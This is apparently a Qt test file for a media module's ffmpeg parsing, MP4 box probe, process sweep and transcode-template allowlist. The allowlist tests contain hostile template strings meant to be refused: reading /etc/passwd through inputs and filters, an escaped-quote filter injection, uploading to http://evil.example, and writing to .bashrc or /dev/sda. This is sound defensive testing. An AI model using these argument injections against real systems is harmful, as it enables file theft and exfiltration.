// SPDX-License-Identifier: MIT
// Media inspection: facts read from ffmpeg's text, the MP4 probe on hostile boxes, real ffmpeg
// runs (awkward files, progress, stops, a killed client, the sweep), the template allowlist.
#include "core/media/ffmpegtools.h"
#include "core/media/nuvmp4info.h"
#include "core/media/processsweep.h"
#include "core/media/transcodetemplate.h"
#include "core/media/videoinfo.h"
#include "testvideos.h"
#include "workerrun.h"

#include <QDir>
#include <QProcess>
#include <QScopeGuard>
#include <QTemporaryDir>
#include <QUuid>
#include <QtEndian>
#include <QtTest>

#include <atomic>
#include <sys/stat.h>

namespace {

QString operator""_s(const char *text, size_t size)
{
    return QString::fromUtf8(text, int(size));
}

const QString Duration = "  Duration: 00:01:23.45, start: 0.021333, bitrate: 1500 kb/s\n"_s;

// "codec|pixel format|WxH|bit rate|fps" of each filled slot, then "duration|bit rate|audio
// codec|sample rate" of the file.
QString factsOf(const VideoInfo &info)
{
    QStringList facts;
    for (const VideoStream &stream : info.videoStreams()) {
        if (!stream.codec.isEmpty())
            facts << "%1|%2|%3x%4|%5|%6"_s.arg(stream.codec, stream.pixelFormat)
                         .arg(stream.width)
                         .arg(stream.height)
                         .arg(stream.bitrate, stream.fps);
    }
    facts << "%1|%2|%3|%4"_s.arg(info.duration()).arg(info.bitrate(), info.audioCodec(), info.audioSampleRate());
    return facts.join(" / "_s);
}

template<typename T>
QByteArray bigEndian(T value)
{
    QByteArray bytes(sizeof(T), '\0');
    qToBigEndian(value, bytes.data());
    return bytes;
}

// A box of this type and payload; size overrides the true one.
QByteArray box(const char *type, const QByteArray &payload = {}, qint64 size = -1)
{
    return bigEndian<quint32>(quint32(size < 0 ? 8 + payload.size() : size)) + QByteArray(type, 4) + payload;
}

QByteArray largeBox(const char *type, const QByteArray &payload, quint64 size)
{
    return bigEndian<quint32>(1) + QByteArray(type, 4) + bigEndian<quint64>(size) + payload;
}

const QByteArray Ftyp = box("ftyp", QByteArray("isom") + bigEndian<quint32>(512) + QByteArray("isomavc1"));
const QByteArray Mdat = box("mdat", QByteArray(64, '\x55'));
const QByteArray Mvhd = box("mvhd", QByteArray(100, '\0'));
const QByteArray Pssh = box("pssh", QByteArray(24, '\0'));
const QByteArray Sinf =
    box("sinf",
        box("frma", "avc1") + box("schm", bigEndian<quint32>(0) + QByteArray("cenc") + bigEndian<quint32>(0x10000)));

// A visual sample entry: 78 bytes of fixed fields before its child boxes.
QByteArray videoEntry(const char *type, const QByteArray &children = {})
{
    return box(type, QByteArray(78, '\0') + children);
}

// moov/trak/mdia/minf/stbl/stsd holding the given sample entries.
QByteArray movie(const QByteArray &entries, int entryCount = 1)
{
    const QByteArray stsd = box("stsd", bigEndian<quint32>(0) + bigEndian<quint32>(quint32(entryCount)) + entries);
    const QByteArray minf = box("minf", box("vmhd", QByteArray(12, '\0')) + box("stbl", stsd));
    const QByteArray mdia = box("mdia", box("mdhd", QByteArray(24, '\0')) + minf);
    return box("moov", Mvhd + box("trak", box("tkhd", QByteArray(84, '\0')) + mdia));
}

} // namespace

class TestMedia final : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void transform_ffmpegText_readsStreamAndFileFacts_data();
    void transform_ffmpegText_readsStreamAndFileFacts();
    void mp4Info_boxes_answerLayoutAndProtection_data();
    void mp4Info_boxes_answerLayoutAndProtection();
    void info_files_giveFactsAndLayout_data();
    void info_files_giveFactsAndLayout();
    void handleOutput_chunks_progressEstimateAndErrors();
    void format_stop_throwsStopAndLeavesNoFfmpeg_data();
    void format_stop_throwsStopAndLeavesNoFfmpeg();
    void format_clientKilled_ffmpegDiesWithIt();
    void sweep_processes_onlyOurMarkedFfmpegEnds_data();
    void sweep_processes_onlyOurMarkedFfmpegEnds();
    void transcodeTemplate_templates_acceptedOrRefused_data();
    void transcodeTemplate_templates_acceptedOrRefused();

private:
    QTemporaryDir m_dir;
};

void TestMedia::initTestCase()
{
    QVERIFY2(!TestVideos::ffmpeg().isEmpty(), "ffmpeg is needed to generate test media");
    TestVideoOptions options;
    options.seconds = 2;
    QVERIFY(TestVideos::make(m_dir.filePath("my \"best\" clip.mp4"_s), options));
    options.videoStreams = 4;
    QVERIFY(TestVideos::make(m_dir.filePath("four.mp4"_s), options));
    options.videoStreams = 1;
    QVERIFY(TestVideos::make(m_dir.filePath("clip.mkv"_s), options));
    options.video = false;
    QVERIFY(TestVideos::make(m_dir.filePath("sound.m4a"_s), options));
    options.video = true;
    options.faststart = true;
    QVERIFY(TestVideos::make(m_dir.filePath("fast.mp4"_s), options));
    // Sparse: the movie is at the front, so ffmpeg never reads the zeros behind it.
    QVERIFY(QFile::copy(m_dir.filePath("fast.mp4"_s), m_dir.filePath("large.mp4"_s)));
    QVERIFY(QFile::resize(m_dir.filePath("large.mp4"_s), (qint64(5) << 30) + 123));
    QCOMPARE(::mkfifo(QFile::encodeName(m_dir.filePath("fifo.mp4"_s)).constData(), 0600), 0);
    QFile text(m_dir.filePath("notes.mp4"_s));
    QVERIFY(text.open(QIODevice::WriteOnly) && text.write("not a video\n") > 0);
    QFile zero(m_dir.filePath("zero.mp4"_s));
    QVERIFY(zero.open(QIODevice::WriteOnly));
}

void TestMedia::transform_ffmpegText_readsStreamAndFileFacts_data()
{
    QTest::addColumn<QString>("output");
    QTest::addColumn<int>("result");
    QTest::addColumn<QString>("facts");

    QTest::newRow("worked example")
        << Duration
               + "    Stream #0:0: Video: h264 (High), yuv420p(tv, bt709), 1920x1080 [SAR 1:1 DAR 16:9], 4000 kb/s, 25 fps, 25 tbr\n"_s
        << 0 << "h264 (High)|yuv420p(tv bt709)|1920x1080|4000|25 / 83.45|1500||"_s;
    QTest::newRow("three-part colour group keeps later commas, ten hours long")
        << "  Duration: 10:30:15.50, start: 0.021333, bitrate: 1500 kb/s\n"_s
               + "    Stream #0:0: Video: hevc (Main 10), yuv420p10le(tv, bt2020nc, progressive), 3840x2160, 9000 kb/s, 29.97 fps, 29.97 tbr\n"_s
        << 0 << "hevc (Main 10)|yuv420p10le(tv bt2020nc, progressive)|3840x2160|9000|29.97 / 37815.5|1500||"_s;
    QTest::newRow("no duration, no rate anywhere")
        << "  Duration: N/A, start: 0.000000, bitrate: N/A\n"
           "    Stream #0:0: Video: h264 (High), yuv420p(tv, progressive), 320x240 [SAR 1:1 DAR 4:3], 25 fps, 25 tbr, 1k tbn\n"_s
        << 1 << "h264 (High)|yuv420p(tv progressive)|320x240||25 / 0|||"_s;
    // Only slot 0 falls back through the whole text: the fourth stream's rate is the first one.
    QTest::newRow("four streams fill three slots")
        << Duration
               + "    Stream #0:0: Video: h264, yuv420p, 100x110, 25 fps, 25 tbr, 1k tbn\n"
                 "    Stream #0:1: Video: h264, yuv420p, 200x210, 25 fps, 25 tbr, 1k tbn\n"
                 "    Stream #0:2: Video: vp9, yuv420p, 300x310, 1k tbr, 1k tbn, 1k tbc\n"
                 "    Stream #0:3: Video: av1, yuv420p, 400x410, 700 kb/s, 50 fps, 50 tbr\n"
                 "    Stream #0:4: Audio: opus, 48000 Hz, stereo, fltp\n"_s
        << 0
        << "h264|yuv420p|100x110|700|25 / h264|yuv420p|200x210|0|25 / vp9|yuv420p|300x310|0|0 / 83.45|1500|opus|48000"_s;
}

void TestMedia::transform_ffmpegText_readsStreamAndFileFacts()
{
    QFETCH(QString, output);
    VideoInfo info;
    QTEST(VideoInfo::transform(&info, output), "result");
    QTEST(factsOf(info), "facts");
}

void TestMedia::mp4Info_boxes_answerLayoutAndProtection_data()
{
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<bool>("moovAheadMdat");
    QTest::addColumn<bool>("nuvMp4");
    const QByteArray plain = movie(videoEntry("avc1", box("avcC", QByteArray(20, '\1'))));
    const auto row = [](const char *name, const QByteArray &content, bool moovAheadMdat, bool nuvMp4) {
        QTest::newRow(name) << content << moovAheadMdat << nuvMp4;
    };
    row("moov first", Ftyp + plain + Mdat, true, false);
    row("mdat first", Ftyp + Mdat + plain, false, false);
    row("truncated moov", Ftyp + plain.left(40), true, false);
    row("last box runs to end of file", Ftyp + plain + box("mdat", QByteArray(32, '\x55'), 0), true, false);
    row("size 0 box swallows what follows", Ftyp + box("free", QByteArray(8, '\0'), 0) + plain, false, false);
    row("64-bit size skipped exactly", Ftyp + largeBox("mdat", QByteArray(40, '\x55'), 56) + movie(videoEntry("encv")),
        false, true);
    row("moov with 64-bit size", Ftyp + largeBox("moov", Mvhd + Pssh, 16 + Mvhd.size() + Pssh.size()), true, true);
    row("no room for the 64-bit size", Ftyp + bigEndian<quint32>(1) + QByteArray("mdat"), false, false);
    row("size below header", Ftyp + box("free", {}, 4) + plain, false, false);
    row("huge 32-bit size", Ftyp + box("mdat", QByteArray(16, '\0'), 0xFFFFFFFFu), false, false);
    row("huge 64-bit size", Ftyp + largeBox("mdat", {}, ~quint64(0)) + plain, false, false);
    row("huge moov child sizes", Ftyp + box("moov", box("trak", box("mdia", {}, 0x7FFFFFFF), 0xFFFFFFF0u)), true,
        false);
    row("encrypted video entry", Ftyp + movie(videoEntry("encv", Sinf)) + Mdat, true, true);
    row("second entry protected", Ftyp + movie(videoEntry("avc1") + videoEntry("avc1", Sinf), 2), true, true);
    row("pssh in moov", Ftyp + box("moov", Mvhd + Pssh) + Mdat, true, true);
}

void TestMedia::mp4Info_boxes_answerLayoutAndProtection()
{
    QFETCH(QByteArray, content);
    QFETCH(bool, moovAheadMdat);
    QFETCH(bool, nuvMp4);
    QFile file(m_dir.filePath("boxes.mp4"_s));
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(content) == content.size());
    file.close();
    // Start from the opposite answers so a flag that is never written shows.
    bool moovFlag = !moovAheadMdat;
    bool nuvFlag = !nuvMp4;
    QCOMPARE(NuvMp4Info::get(file.fileName(), &moovFlag, &nuvFlag), 0);
    QCOMPARE(moovFlag, moovAheadMdat);
    QCOMPARE(nuvFlag, nuvMp4);
}

void TestMedia::info_files_giveFactsAndLayout_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<int>("result");
    QTest::addColumn<bool>("moovAheadMdat");
    QTest::newRow("faststart mp4") << "fast.mp4"_s << 0 << true;
    QTest::newRow("blanks and quotes in path") << "my \"best\" clip.mp4"_s << 0 << false;
    QTest::newRow("over 4 GiB") << "large.mp4"_s << 0 << true;
    QTest::newRow("four video streams") << "four.mp4"_s << 0 << false;
    QTest::newRow("matroska without stream rates") << "clip.mkv"_s << 0 << false;
    QTest::newRow("audio only") << "sound.m4a"_s << 1 << false;
    QTest::newRow("zero bytes") << "zero.mp4"_s << 1 << false;
    QTest::newRow("text named mp4") << "notes.mp4"_s << 1 << false;
    QTest::newRow("missing file") << "missing.mp4"_s << 403 << false;
    // ffmpeg would wait for a writer for ever.
    QTest::newRow("FIFO") << "fifo.mp4"_s << 415 << false;
    QTest::newRow("directory") << QString() << 415 << false;
}

void TestMedia::info_files_giveFactsAndLayout()
{
    QFETCH(QString, name);
    QFETCH(int, result);
    const QString path = name.isEmpty() ? m_dir.path() : m_dir.filePath(name);
    VideoInfo info;
    FFMpegTools tools;
    QCOMPARE(tools.info(&info, path), result);
    QVERIFY2(!TestVideos::processRunningWith(path), "ffmpeg left running");
    if (result != 0)
        return;
    const VideoStream &video = info.videoStreams()[0];
    QCOMPARE(video.width, 64);
    QCOMPARE(video.height, 48);
    QCOMPARE(video.fps, "10"_s);
    // "yuv420p(tv, progressive)" must stay whole, not be cut at its comma.
    QVERIFY2(video.codec.startsWith("h264 ("_s) && video.pixelFormat.startsWith("yuv420p("_s)
                 && video.pixelFormat.endsWith(u')'),
             qPrintable(video.codec + u'|' + video.pixelFormat));
    // The line's own rate (read here without the parser's patterns), else the overall one.
    const QString line = info.output().section("Video:"_s, 1, 1).section(u'\n', 0, 0);
    const int rateEnd = line.indexOf(" kb/s"_s);
    QCOMPARE(video.bitrate, rateEnd < 0 ? info.bitrate() : line.left(rateEnd).section(u' ', -1));
    QVERIFY(qAbs(info.duration() - 2) < 0.1f && !info.bitrate().isEmpty());
    QVERIFY(info.audioCodec().startsWith("aac"_s) && info.audioSampleRate() == "44100"_s);
    QCOMPARE(info.size(), QFileInfo(path).size());
    QTEST(info.moovAheadMdat(), "moovAheadMdat");
    QCOMPARE(info.nuvMp4(), false);
}

void TestMedia::handleOutput_chunks_progressEstimateAndErrors()
{
    FFMpegTools tools;
    tools.setClock([] { return qint64(10); }); // no run started: 10 s have elapsed
    QStringList events;
    connect(&tools, &FFMpegTools::errorMessage, this, [&](const QString &message) { events << message; });
    connect(&tools, &FFMpegTools::formatProcessSignal, this,
            [&](int rate, int remaining) { events << "%1 %2"_s.arg(rate).arg(remaining); });
    tools.setDuration(180);
    // The first clock of a chunk counts, in whole seconds.
    tools.handleOutput(
        "[error]: malloc of size 1048576 failed\rframe=9 time=00:01:30.52 x\rframe=9 time=00:02:30.00"_s);
    tools.handleOutput("[error]: Invalid data found\n"_s);
    tools.handleOutput("frame=0 time=00:00:00.00 x"_s);
    tools.handleOutput("frame=9 time=00:05:00.00 x"_s);
    tools.setDuration(0);
    tools.handleOutput("frame=9 time=00:00:09.00 x"_s);
    QCOMPARE(events, (QStringList{"系统转码内存不存，请关闭一些应用程序后重试"_s, "50 10"_s,
                                  "出现异常：[error]: Invalid data found\n"_s, "0 -1"_s, "100 0"_s, "0 0"_s}));
}

void TestMedia::format_stop_throwsStopAndLeavesNoFfmpeg_data()
{
    QTest::addColumn<bool>("printing");
    QTest::newRow("silent ffmpeg") << false;
    QTest::newRow("ffmpeg printing progress") << true;
}

void TestMedia::format_stop_throwsStopAndLeavesNoFfmpeg()
{
    QFETCH(bool, printing);
    const QString marker = QUuid::createUuid().toString();
    QStringList arguments = TestVideos::silentRunArguments(marker, 60);
    if (printing)
        arguments += {"-loglevel"_s, "info"_s, "-stats"_s};
    // format() on a worker thread, as the pipeline runs it.
    std::atomic_bool stop{false};
    WorkerRun run([&stop, arguments] {
        FFMpegTools tools;
        tools.setStopFlag(&stop);
        tools.format(arguments);
    });
    const auto cleanup = qScopeGuard([&] { stop = true; });
    QTRY_VERIFY(TestVideos::processRunningWith(marker));
    QVERIFY(!run.finished());
    stop = true;
    QVERIFY(run.wait(1000));
    QCOMPARE(run.outcome().message, "停止"_s);
    QVERIFY(!TestVideos::processRunningWith(marker));
}

void TestMedia::format_clientKilled_ffmpegDiesWithIt()
{
    // The arguments travel in the environment, so only ffmpeg has the marker in its command line.
    const QString marker = QUuid::createUuid().toString();
    QProcess client;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert("NUV_FORMAT_ARGUMENTS"_s, TestVideos::silentRunArguments(marker, 30).join(u'\n'));
    client.setProcessEnvironment(environment);
    client.start(qEnvironmentVariable("NUV_BIN_DIR") + "/formathelper"_s, QStringList());
    QVERIFY(client.waitForStarted());
    QTRY_VERIFY_WITH_TIMEOUT(TestVideos::processRunningWith(marker), 20000);
    client.kill();
    QVERIFY(client.waitForFinished());
    QTRY_VERIFY(!TestVideos::processRunningWith(marker));
}

void TestMedia::sweep_processes_onlyOurMarkedFfmpegEnds_data()
{
    // mark: none, run, other (another run of ours), dead (its owner gone), foreign (another install)
    QTest::addColumn<bool>("ffmpeg"); // false: a shell holding the run's arguments
    QTest::addColumn<QString>("mark");
    QTest::addColumn<bool>("startup"); // the start-up sweep of leftovers, else the sweep after this run
    QTest::addColumn<bool>("ended");
    QTest::newRow("user's ffmpeg with the run's arguments") << true << "none"_s << false << false;
    QTest::newRow("decoy with the run's mark and arguments") << false << "run"_s << false << false;
    QTest::newRow("ffmpeg of this run") << true << "run"_s << false << true;
    QTest::newRow("ffmpeg of a concurrent run") << true << "other"_s << false << false;
    QTest::newRow("ffmpeg of a live run at start-up") << true << "run"_s << true << false;
    QTest::newRow("leftover of a killed run") << true << "dead"_s << true << true;
    QTest::newRow("decoy leftover") << false << "dead"_s << true << false;
    QTest::newRow("leftover of another installation") << true << "foreign"_s << true << false;
}

void TestMedia::sweep_processes_onlyOurMarkedFfmpegEnds()
{
    QFETCH(bool, ffmpeg);
    QFETCH(QString, mark);
    QFETCH(bool, startup);
    QFETCH(bool, ended);
    const QString runMark = ProcessSweep::newMark();
    QStringList fields = runMark.split(u':');
    fields[2] = "1"_s; // started at another time: the id now belongs to someone else
    if (mark == "foreign"_s)
        fields[0] = ProcessSweep::installMarker(QDir::tempPath());
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    if (mark != "none"_s)
        environment.insert(ProcessSweep::markVariable(), mark == "run"_s     ? runMark
                                                         : mark == "other"_s ? ProcessSweep::newMark()
                                                                             : fields.join(u':'));
    const QStringList arguments = TestVideos::silentRunArguments(QUuid::createUuid().toString(), 30);
    QProcess process;
    process.setProcessEnvironment(environment);
    if (ffmpeg)
        process.start(TestVideos::ffmpeg(), arguments);
    else
        process.start("bash"_s, QStringList{"-c"_s, "read -t 30"_s, "ffmpeg"_s} + arguments);
    const auto cleanup = qScopeGuard([&] {
        process.kill();
        process.waitForFinished();
    });
    QVERIFY(process.waitForStarted());
    const QList<qint64> killed = startup ? ProcessSweep::endLeftovers(TestVideos::ffmpeg())
                                         : ProcessSweep::endRun(runMark, TestVideos::ffmpeg());
    QCOMPARE(killed.contains(process.processId()), ended);
    QVERIFY(!ended || (process.waitForFinished(5000) && process.exitStatus() == QProcess::CrashExit));
}

void TestMedia::transcodeTemplate_templates_acceptedOrRefused_data()
{
    QTest::addColumn<QString>("argumentTemplate");
    QTest::addColumn<QString>("expected"); // before the output, {source} standing for the path; empty: refused
    QTest::addColumn<QString>("refused");
    const auto row = [](const char *name, const char *argumentTemplate, const char *expected, const char *refused) {
        QTest::newRow(name) << QString::fromUtf8(argumentTemplate) << QString::fromUtf8(expected)
                            << QString::fromUtf8(refused);
    };
    row("reference server template",
        "{ffmpegPath} -y -i \"{source}\" -vf scale=-2:240 -c:v libx264 -preset ultrafast -crf 32 -c:a aac -b:a 64k -movflags +faststart \"{target}\"",
        "-y -i {source} -vf scale=-2:240 -c:v libx264 -preset ultrafast -crf 32 -c:a aac -b:a 64k -movflags +faststart",
        "");
    row("quoted comma inside a filter",
        "-i {source} -map 0:v:0 -map 0:a? -vf \"scale='min(1280,iw)':-2,fps=30\" -s 1280x720 -f mp4 {target}",
        "-i {source} -map 0:v:0 -map 0:a? -vf scale='min(1280,iw)':-2,fps=30 -s 1280x720 -f mp4", "");
    row("reads another file", "-i /etc/passwd -c copy {target}", "", "-i /etc/passwd");
    row("second input", "-i {source} -i {source} -map 1 {target}", "", "-i {source}");
    row("http output", "-i {source} -c copy -f mp4 http://evil.example/up", "", "http://evil.example/up");
    row("second output", "-i {source} -c copy /home/u/.bashrc {target}", "", "/home/u/.bashrc");
    row("target not last", "-i {source} {target} -f mp4", "", "{target}");
    row("no target", "{ffmpegPath} -i {source}", "", "{target}");
    row("lavfi reads the source as a graph", "-f lavfi -i {source} {target}", "", "-f lavfi");
    row("movie filter", "-i {source} -vf movie=/etc/passwd {target}", "", "-vf movie=/etc/passwd");
    row("file reader behind an allowed filter",
        "-i {source} -filter:v scale=320:-2,drawtext=textfile=/etc/passwd {target}", "",
        "-filter:v scale=320:-2,drawtext=textfile=/etc/passwd");
    // ffmpeg reads \' as a plain quote, so the comma after it starts a second filter.
    row("escaped quote hiding a second filter", "-i {source} -vf \"scale=a\\',subtitles=x.srt,b='\" {target}", "",
        "-vf scale=a\\',subtitles=x.srt,b='");
    row("filter graph option", "-i {source} -filter_complex amovie=/etc/passwd {target}", "", "-filter_complex");
    row("codec value that is a path", "-i {source} -c:v /dev/sda {target}", "", "-c:v /dev/sda");
}

void TestMedia::transcodeTemplate_templates_acceptedOrRefused()
{
    QFETCH(QString, argumentTemplate);
    QFETCH(QString, expected);
    const QString source = "/home/u/My Videos/say \"hi\".mp4"_s;
    QStringList arguments;
    if (!expected.isEmpty())
        arguments = expected.split(u' ').replaceInStrings("{source}"_s, source)
                    + QStringList{"-protocol_whitelist"_s, "file"_s, "/data/tmp/NR_7.mp4"_s};
    TranscodeTemplate::Refusal refusal;
    QCOMPARE(TranscodeTemplate::build(argumentTemplate, source, "/data/tmp/NR_7.mp4"_s, &refusal), arguments);
    QTEST(refusal.argument, "refused");
}

QTEST_GUILESS_MAIN(TestMedia)
#include "tst_media.moc"
